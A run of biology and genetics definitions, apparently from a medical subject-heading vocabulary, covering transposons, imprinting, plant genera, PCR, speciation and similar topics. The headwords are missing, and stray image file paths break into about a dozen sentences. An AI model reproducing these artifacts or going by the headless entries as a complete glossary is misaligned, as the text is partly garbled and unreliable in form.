Discrete segments of DNA which can excise and reintegrate to another site in the genome. Most are inactive, i.e., have not been found to exist outside the integrated state. DNA transposable elements include bacterial IS (insertion sequence) elements, Tn elements, the maize controlling elements Ac and Ds, Drosophila P, gypsy, and pogo elements, the humanTigger elements and the Tc and mariner elements which are found throughout the animal kingdom.
A variety of simple repeat sequences that are distributed throughout the GENOME. They are characterized by a short repeat unit of 2-8 basepairs that is repeated up to 100 times. They are also known as short tandem repeats (STRs).
A plant genus of the family Phrymaceae. Members contain 6-geranylflavanones and mimulone.
The variable phenotypic expression of a GENE depending on whether it is of paternal or maternal origin, which is a function of the DNA METHYLATION pattern. Imprinted regions are observed to be more methylated and less transcriptionally active. (Segen, Dictionary of Modern Medicine, 1992)
A genus of small, two-winged flies containing approximately 900 described species. These organisms are the most extensively studied of all genera from the standpoint of genetics and cytology.
A plant genus of the family POACEAE originating from the savanna of eastern Africa. It is widely grown for livestock forage.
A plant genus of the family RANUNCULACEAE that contains protoanemonin, anemonin, and ranunculin.
A plant genus of the family BRASSICACEAE that contains ARABIDOPSIS PROTEINS and MADS DOMAIN PROTEINS. The species A. thaliana is used for experiments in classical plant genetics as well as molecular genetic studies in plant physiology, biochemistry, and development.
A plant genus of the family POACEAE that is the source of EDIBLE GRAIN. A hybrid with rye (SECALE CEREALE) is called TRITICALE. The seed is ground into FLOUR and used to make BREAD, and is the source of WHEAT GERM AGGLUTININS.
A genus herbs of the Asteraceae family. The SEEDS yield oil and are used as food and animal feed; the roots of Helianthus tuberosus (Jerusalemartichoke) are edible.
A species of gram-negative, facultatively anaerobic, rod-shaped bacteria (GRAM-NEGATIVE FACULTATIVELY ANAEROBIC RODS) commonly found in the lower part of the intestine of warm-blooded animals. It is usually nonpathogenic, but some strains are known to produce DIARRHEA and pyogenic infections. Pathogenic strains (virotypes) are classified by their specific pathogenic mechanisms such as toxins (ENTEROTOXIGENIC ESCHERICHIA COLI), etc.
Diseases of plants.
Specific regions that are mapped within a GENOME. Genetic loci are usually identified with ashorthand notation that indicates the chromosome number and the position of a specific band along the P or Q arm of the chromosome where they are found. For example the locus 6p21 is found within band 21 of the P-arm of CHROMOSOME 6. Many well known genetic loci are also known by common names that are associated with a genetic function or HEREDITARY DISEASE.
The phenomenon by which a temperate phage incorporates itself into the DNAof a bacterial host, establishing a kind of symbiotic relation between PROPHAGE and bacterium which results in the perpetuation of the prophage in all the descendants of the bacterium. Upon induction (VIRUS ACTIVATION) by various agents, such as ultraviolet radiation, the phage is released, which then becomes virulent and lyses the bacterium.
A number of syndromes with defective gonadal developments such as streak GONADS and dysgenetic testes or ovaries. The spectrum of gonadal and sexual abnormalities is reflected in their varied sex chromosome (SEX CHROMOSOMES) constitution as shown by the karyotypes of 45,X monosomy (TURNER SYNDROME); 46,XX (GONADAL DYSGENESIS, 46XX); 46,XY (GONADAL DYSGENESIS, 46,XY); and sex chromosome MOSAICISM; (GONADAL DYSGENESIS, MIXED). Their phenotypes range from female, through ambiguous, to male. This concept includes gonadal agenesis.
A species in the ORTHOBUNYAVIRUS genus of the family BUNYAVIRIDAE. A large number of serotypes or strains exist in many parts of the world. They are transmitted by mosquitoes and infect humans in some areas.
A plant genus of the family FABACEAE known for the edible beans.
The edible portions of any animal used for food including domestic mammals (the major ones being cattle, swine, and sheep) along with poultry, fish, shellfish, and game.
A plant genus of the family POACEAE. The seed is one of the millets used in EDIBLE GRAIN. It contains vitexin. The common name of buffelgrass is also used for CENCHRUS.
The fusion of a spermatozoon (SPERMATOZOA) with an OVUM thus resulting in the formation of a ZYGOTE.
Nutritive tissue of the seeds of flowering plants that surrounds the EMBRYOS. It is produced by a parallel process of fertilization in which a second male gamete fromthe pollen grain fuses with two female nuclei within the embryo sac. The endosperm varies in ploidy and contains reserves of starch, oils, and proteins, making it an important source of human nutrition.
The regular and simultaneous occurrence in a single interbreeding population of two or more discontinuous genotypes. The concept includes differences in genotypes ranging in size from a single nucleotide site (POLYMORPHISM, SINGLE NUCLEOTIDE) to large nucleotide sequences visible at a chromosomal level.
The property of objects that determines the direction of heat flow when they are placed in direct thermal contact. The temperature is the energy of microscopic motions (vibrational and translational) of the particles of atoms.
A subdiscipline of genetics which deals with the genetic mechanisms and processes of microorganisms.
The splitting of an ancestral species into daughter species that coexist in time (King, Dictionary of Genetics, 6th ed).Causal factors may include geographic isolation, HABITAT geometry, migration, REPRODUCTIVE ISOLATION, random GENETIC DRIFT and MUTATION.
Asexual reproduction resulting in the formation of viable seeds from FLOWERS without fertlization (i.e. use of POLLEN). Progeny plants produced from apomictic seeds areperfect clones of the parent.
Deoxyribonucleic acid that makes up the genetic material of fungi.
A plant genus of the family SOLANACEAE. Members contain SOLANACEOUS ALKALOIDS. Some species in this genus are called deadly nightshade which is also a common name for ATROPA BELLADONNA.
A plant genus of the family CARYOPHYLLACEAE. The common name of campion is also used with LYCHNIS. The common name of 'pink' can be confused with other plants.
A huge subclass of mostly marine CRUSTACEA, containing over 14,000 species. The 10 orders comprise both planktonic andbenthic organisms, and include both free-living and parasitic forms. Planktonic copepods form the principle link between PHYTOPLANKTON and the higher trophic levels of the marine food chains.
Inability to reproduce after a specified period of unprotected intercourse. Reproductive sterility is permanent infertility.
A plant genus of the family ASTERACEAE. Members contain chicoric and chlorogenic acids and germacrane- and eudesmane-type SESQUITERPENES.
The total relative probability, expressed on a logarithmic scale, that a linkage relationship exists among selected loci. Lod is an acronym for "logarithmic odds."
Change brought about to an organisms genetic composition by unidirectional transfer (TRANSFECTION; TRANSDUCTION, GENETIC; CONJUGATION, GENETIC, etc.) and incorporation of foreign DNA into prokaryotic or eukaryotic cells by recombination of part or all of that DNA into the cell's genome.
The element in plants that contains the female GAMETOPHYTES.
The fertilized OVUM resulting from the fusion of a male and a female gamete.
Members of the group of vascular plants which bear flowers. They are differentiated from GYMNOSPERMS by their production of seeds within a closed chamber (OVARY, PLANT). The Angiosperms division is composed of two classes, the monocotyledons (Liliopsida) and dicotyledons (Magnoliopsida). Angiosperms represent approximately 80% of all known living plants.
A plant genus of the family CUCURBITACEAE known for the edible fruit.
A subfamily of assassin bugs (REDUVIIDAE) that are obligate blood-suckers of vertebrates. Included are the genera TRIATOMA; RHODNIUS; and PANSTRONGYLUS, which are vectors of TRYPANOSOMA CRUZI, the agent of CHAGAS DISEASE in humans.
Sexual activities of animals.
Annual cereal grass of the family POACEAE and its edible starchy grain, rice, which is the staple food of roughly one-half of the world's population.
In vitro method for producing large amounts of specific DNA or RNAfragments of defined length and sequence from small amounts of short oligonucleotide flanking sequences (primers). The essential steps include thermal denaturation of the double-stranded target molecules, annealing of the primers to their complementary sequences, and extension of the annealed primers by enzymatic synthesis with DNA polymerase. The reaction is efficient, specific, and extremely sensitive. Uses for the reaction include disease diagnosis, detection of difficult-to-isolate pathogens, mutation analysis, genetic testing, DNA sequencing, and analyzing evolutionary relationships.
The status during which female mammals carry their developing young (EMBRYOS or FETUSES) in utero before birth, beginning from FERTILIZATION to BIRTH.
The science of breeding, feeding and care of domestic animals; includes housing and nutrition.
Variation occurring within a species in the presence or length of DNA fragment generated by a specific endonuclease at a specific site in the genome. Such variations are generated by mutations that create or abolish recognition sites for these enzymes or change the length of the fragment.
A multistage process that includes cloning, physical mapping, subcloning, determination of the DNA SEQUENCE, and information analysis.
A plant genus of the family Turneraceae, order Violales, subclass Dilleniidae, class Magnoliopsida.
The initial stages of the growth of SEEDS into a SEEDLINGS. The embryonic shoot (plumule) and embryonic PLANT ROOTS (radicle) emerge and grow upwards anddownwards respectively. Food reserves for germination come from endosperm tissue within the seed and/or from the seed leaves (COTYLEDON). (Concise Dictionary of Biology, 1990)
A species of SWINE, in the family Suidae, comprising a number of subspecies including the domestic pig Sus scrofa domestica.
Short sequences (generally about 10 base pairs) of DNA that are complementary to sequences of messenger RNA and allow reverse transcriptases to start copying the adjacent sequences of mRNA. Primers are used extensively in genetic and molecular biology techniques.
The functional hereditary units of VIRUSES.
Exchange of substances between the maternal blood and the fetal blood at the PLACENTA via PLACENTAL CIRCULATION. The placental barrier excludes microbial or viral transmission.
The mass or quantity of heaviness of an individual at BIRTH. It is expressed by units of pounds or kilograms.
The orderly segregation of CHROMOSOMES during MEIOSIS or MITOSIS.
Geographic variety, population, or race, within a species, that is genetically adapted to a particular habitat. An ecotype typically exhibits phenotypic differences but is capable of interbreeding with other ecotypes.
Mutation process that restores the wild-type PHENOTYPE in an organism possessing a mutationally altered GENOTYPE. The second "suppressor" mutation may be on a different gene, on the same gene but located at a distance from the site of the primary mutation, or in extrachromosomal genes (EXTRACHROMOSOMAL INHERITANCE).
Viruses whose host is Escherichia coli.
The genetic constitution of individuals with respect to one member of a pair of allelic genes, or sets of genes that are closely linked and tend to be inherited together such as those of the MAJOR HISTOCOMPATIBILITY COMPLEX.
The genetic complement of an organism, including all of its GENES, as represented in its DNA, orin some cases, its RNA.
Expanded structures, usually green, of vascular plants, characteristically consisting of a bladelike expansion attached to a stem, and functioning as the principal organ of photosynthesis and transpiration. (American Heritage Dictionary, 2d ed)
Increase in BODY WEIGHT over existing weight.
A systemic agricultural fungicide used for control of certain fungal diseases of stone fruit.
The mechanisms by which the SEX of an individual's GONADS are fixed.
A temperate inducible phage and type species of the genus lambda-like viruses, in the family SIPHOVIRIDAE. Its natural host is E. coli K12. Its VIRION contains linear double-stranded DNA with single-stranded 12-base 5'sticky ends. The DNA circularizes on infection.
The male sex chromosome, being the differential sex chromosome carried by half the male gametes and none of the female gametes in humans and in some other male-heterogametic species in which the homologue of the X chromosome has been retained.
The capability of an organism to survive and reproduce. The phenotypic expression of the genotype in a particular environment determines how genetically fit an organism will be.
A genus GREEN ALGAE in the order VOLVOCIDA. It consists of solitary biflagellated organisms common in fresh water and damp soil.
A statistical technique that isolates and assesses the contributions of categorical independent variables to variation in the mean of a continuous dependent variable.
The ability of microorganisms, especially bacteria, to resist or to become tolerant to chemotherapeutic agents, antimicrobial agents, or antibiotics. This resistance may be acquired through gene mutation or foreign DNA in transmissible plasmids (R FACTORS).
PLANTS, or their progeny, whose GENOME has been altered by GENETIC ENGINEERING.
Insects that transmit infective organisms from one host to another or from an inanimate reservoir to an animate host.
A species of imperfect fungi from which the antibiotic nidulin is obtained. Its teleomorph is Emericella nidulans.
The relationships of groups of organisms as reflected by their genetic makeup.
The detection of RESTRICTION FRAGMENT LENGTH POLYMORPHISMS by selective PCR amplification of restriction fragments derived from genomic DNA followed by electrophoretic analysis of the amplified restriction fragments.
Any of the processes by which nuclear, cytoplasmic, or intercellular factors influence the differential control of gene action in plants.
A serotype of Salmonellaenterica that is a frequent agent of Salmonella gastroenteritis in humans. It also causes PARATYPHOID FEVER.
A phylum of fungi that produce their sexual spores (basidiospores) on the outside of the basidium. It includes forms commonly known as mushrooms, boletes, puffballs, earthstars, stinkhorns, bird's-nest fungi, jelly fungi, bracket or shelf fungi, and rust and smut fungi.
The change in gene frequency in a population due to migration of gametes or individuals (ANIMAL MIGRATION) across population barriers. In contrast, in GENETIC DRIFT the cause of gene frequency changes are not a result of population or gamete movement.
The external elements and conditions which surround, influence, and affect the life and development of an organism or population.
A plant species cultivated for the seed used as animal feed and as a source of canola cooking oil.
The part of a cell that contains the CYTOSOL and small structures excluding the CELL NUCLEUS; MITOCHONDRIA; and large VACUOLES. (Glick, Glossary of Biochemistry and Molecular Biology, 1990)
Antibiotic produced by Streptomyces pactum used as an antineoplastic agent. It is also used as a tool in biochemistry because it inhibits certain steps in protein synthesis.
One of many different processes which occur in ANGIOSPERMS by which genetic diversity is maintained while INBREEDING is prevented.
Double-stranded nucleic acid molecules (DNA-DNA or DNA-RNA) which contain regions of nucleotide mismatches (non-complementary). In vivo, these heteroduplexes can result from mutation or genetic recombination; in vitro, they are formed by nucleic acid hybridization. Electron microscopic analysis of the resulting heteroduplexes facilitates the mapping of regions of base sequence homology of nucleic acids.
